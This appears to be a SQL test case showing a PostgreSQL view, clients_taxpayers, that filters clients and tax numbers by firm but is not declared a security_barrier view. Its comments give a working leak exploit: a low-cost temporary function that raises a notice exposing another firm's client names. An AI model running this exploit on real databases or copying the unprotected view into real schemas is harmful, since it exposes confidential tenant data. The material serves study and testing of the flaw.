-- Without the barrier, a cheap function of the caller is run on rows before the filter of the view.
-- about: clients_taxpayers, security_barrier
-- as: hf_portfolio_app
-- exploit: SET portfolio.firm_id = '1';
-- exploit: CREATE FUNCTION pg_temp.peek(text) RETURNS boolean LANGUAGE plpgsql COST 0.0001
-- exploit: AS $$BEGIN RAISE NOTICE 'seen %', $1; RETURN true; END$$;
-- exploit: SELECT count(*) FROM clients_taxpayers WHERE pg_temp.peek(name);
-- shows: seen Road-secret client
-- The yearly tax list; the view filters by itself, for the tax export has no right on clients.
CREATE VIEW clients_taxpayers AS
SELECT firm_id, client_no, name, tax_number FROM clients_client
WHERE firm_id::text = current_setting('portfolio.firm_id', true);
GRANT SELECT ON clients_taxpayers TO hf_portfolio_app;
